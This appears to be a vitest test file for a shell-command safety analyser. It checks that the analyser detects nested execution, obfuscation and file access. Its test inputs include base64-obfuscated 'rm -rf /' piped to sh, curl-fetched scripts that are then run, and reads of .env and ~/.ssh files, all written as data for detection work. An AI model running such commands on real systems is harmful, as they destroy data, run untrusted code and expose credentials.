// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell expansions are written as they are
import { describe, expect, it } from 'vitest'
import { filesOf, markersOf, runsOf } from './show.ts'

/** A command, what it runs inside something else, and its markers. */
type Row = readonly [command: string, inside: readonly string[], markers?: readonly string[]]

function table(name: string, rows: readonly Row[]): void {
  describe(name, () => {
    const cases = rows.map(([command, inside, markers = []]) => ({ command, inside, markers }))
    it.each(cases)('$command', ({ command, inside, markers }) => {
      expect(runsOf(command).filter(run => run.includes(' > '))).toEqual(inside)
      expect(markersOf(command)).toEqual(markers)
    })
  })
}

table('text through programs that only change text', [
  ['echo cm0gLXJmIC8= | base64 -d | sh', ['sh > rm -rf /']],
  ['base64 --decode <<< cm0gLXJmIC8 | sh', ['sh > rm -rf /']],
  ['echo 726d202f | xxd -r -p | sh', ['sh > rm /']],
  ["echo 'x borf' | rev | sh", ['sh > frob x']],
  ["echo 'tvg k' | tr a-z n-za-m | sh", ['sh > git x']],
  ["echo 'g-i-t' | tr -d - | tee log | cat | sh", ['sh > git']],
  ["printf 'a\\nb\\n' | head -n 1 | sh", ['sh > a']],
  ["{ echo a; printf '%s\\n' b; } | sh", ['sh > a', 'sh > b']],
  ['echo a | tr a-z $X | sh', [], ['stdin-script']],
  ["echo a | tr -c a b | sh; echo '!!' | base64 -d | sh", [], ['stdin-script', 'stdin-script']],
  ['echo a | sed s/a/b/ | sh', [], ['stdin-script']],
  ['tr() { :; }; echo a | tr a b | sh', ['tr() > :'], ['stdin-script']],
  ['PATH=$PWD; echo a | rev | sh', [], ['stdin-script']],
  ["echo 'a\\nb' | sh", ['sh > anb', 'sh > a', 'sh > b']],
  ["echo -e 'a\\nb' | sh", ['sh > a', 'sh > b']],
])

table('streams with text', [
  ['source <(echo frob so)', ['source > frob so']],
  ['bash <(echo frob ps)', ['bash > frob ps']],
  ['sh < <(echo frob x)', ['sh > frob x']],
  ['. /dev/stdin <<< "git so"', ['source > git so']],
  ['source <(curl x)', [], ['sourced-file']],
  ['bash <(curl x)', [], ['stdin-script']],
  ['python3 <(curl x); node <(wget -qO- x)', [], ['script-file', 'script-file']],
  ['python3 <(echo \'import os; os.system("frob x")\')', ['python3 > frob x']],
  ['python3 x.py <(curl x)', []],
  ['eval sh <<< "git x"', ['eval > sh', 'eval > sh > git x'], ['stdin-script']],
])

table('files the line writes and runs', [
  ["echo 'git push -f' > x.sh; bash x.sh", ['bash > git push -f']],
  ["printf 'rm -rf /\\n' > s.sh && chmod +x s.sh && ./s.sh", ['./s.sh > rm -rf /']],
  ['chmod +x s.sh && ./s.sh', []],
  ['curl -o s.sh http://x; chmod +x s.sh; ./s.sh', [], ['script-file']],
  ["printf 'rm -rf /\\n' > s.sh && . ./s.sh", ['source > rm -rf /']],
  ["echo 'X=git' > v; X=rm; . ./v; command $X a", ['command > git a']],
  ['cat > x.sh <<\'E\'\nfrob "$1" $0\nE\nsudo bash ./x.sh arg', ['sudo > bash ./x.sh arg', 'sudo > bash > frob arg ./x.sh']],
  ['echo frob | tee x.sh; sh x.sh', ['sh > frob']],
  ['echo ZnJvYg== | base64 -d > x.sh; sh x.sh', ['sh > frob']],
  ['cd d; echo frob > x.sh; cd ..; sh d/x.sh', ['sh > frob']],
  ['echo a > x; echo b >> x; sh x', ['sh > a', 'sh > a', 'sh > b']],
  ['if c; then echo a > x; else echo b > x; fi; sh x', ['sh > a', 'sh > b']],
  ['echo "rm $X" > x.sh; sh x.sh', ['sh > rm ?…'], ['script-file']],
  ['curl -o x.sh http://x; sh x.sh', [], ['script-file']],
  ['echo a > x.sh; sed -i s/a/b/ x.sh; sh x.sh', ['sh > a'], ['script-file']],
  ['echo a > x.sh; cp x.sh y.sh; sh y.sh', [], ['script-file']],
  ['echo a >> x.sh; sh x.sh', ['sh > a'], ['script-file']],
  ['for i in 1 2; do echo a >> x; done; sh x', ['sh > a', 'sh > a', 'sh > a'], ['script-file']],
  ['cd $D; echo a > x.sh; sh x.sh', [], ['script-file']],
  ['printf gi > x; for i in 1 2; do printf t >> x; done; sh x', ['sh > gi', 'sh > git', 'sh > gitt'], ['script-file']],
  ['curl -o x http://x; if c; then echo a > x; fi; sh x', ['sh > a'], ['script-file']],
  ["printf '#!/usr/bin/env python3\\nprint(1)\\n' > p; ./p", []],
  ["printf '#!/usr/bin/env awkward\\nprint(1)\\n' > p; ./p", [], ['interpreter-code']],
  ['echo \'import os; os.system("frob x")\' > p; python3 -u p a', ['python3 > frob x']],
  ['sh x.sh; ./x.sh; echo a > other.sh', []],
  ['curl -o x.py http://x; python3 x.py', [], ['script-file']],
  ['wget http://x/y.js && node ./y.js a', [], ['script-file']],
  ['curl http://x | gunzip > x.rb; ruby x.rb', [], ['script-file']],
  ['curl -o a.json http://x; python3 x.py a.json', []],
  ['curl http://x; sed -i s/a/b/ x.py; python3 x.py', []],
  ['gen > x.py; python3 x.py', []],
  ["echo 'a' > x.sh; ssh h sh x.sh", ['ssh > sh x.sh']],
])

table('zsh', [
  ['repeat 3 git push -f', ['repeat > git push -f']],
  ['- git x; noglob git y', ['- > git x', 'noglob > git y']],
  ["alias -g G='| sh'; echo a G", [], ['dynamic-script']],
  ['echo ${(e)x}', [], ['dynamic-script']],
  ["ls *(e:'rm x':)", [], ['dynamic-script']],
  ['for f in **/*(#qN.om[1]e{x}); do ls; done', [], ['dynamic-script']],
  ['ls > a?(+x)', [], ['dynamic-script']],
  ['ls *(.om[1]) @(a|b.e-x) !(file.e) +([e.])', []],
  ['X="a b"; command rm $X', ['command > rm a b', 'command > rm a b']],
])

describe('files', () => {
  it.each<readonly [string, readonly string[]]>([
    ['echo x >! ~/.zshenv', ['write !', 'write ~/.zshenv']],
    ['echo x >!f', ['write !f', 'write f']],
    ['X="a b"; rm $X', ['delete a', 'delete b', 'delete a b']],
    ['f() { cat $1; }; cd d; f x', ['read x in d']],
    ['sh -c \'cat "$1"\' _ .env', ['read .env']],
    ['for f in ~/.ssh; do cat $f/x; done', ['read ~/.ssh/x']],
  ])('%j', (command, files) => {
    expect(filesOf(command)).toEqual(files)
  })
})

describe('budgets of values and files', () => {
  it.each<readonly [string, string]>([
    ['a script that runs itself', "echo './x; ./x' > x; ./x"],
    ['functions that double', `${Array.from({ length: 20 }, (_, i) => `f${i}() { f${i + 1}; f${i + 1}; }; `).join('')}f0`],
    ['parameters that double', `set -- a b; ${'set -- "$@" "$@"; '.repeat(50)}a "$@"`],
    ['bodies of one name', 'f() { a; }; '.repeat(20)],
    ['patterns', `X=${'a'.repeat(4000)}; ${'a ${X//a*b/c} '.repeat(200)}`],
  ])('%s: too complex', (_name, command) => {
    expect(markersOf(command)).toContain('too-complex')
  })

  it('lets no file grow past its bound, nor count of files', () => {
    expect(markersOf(`echo ${'a'.repeat(17_000)} > x; sh x`)).toEqual(['script-file'])
    const many = Array.from({ length: 17 }, (_, i) => `echo a > x${i}; `).join('')
    expect(markersOf(`${many} sh x16`)).toEqual(['script-file'])
  })
})
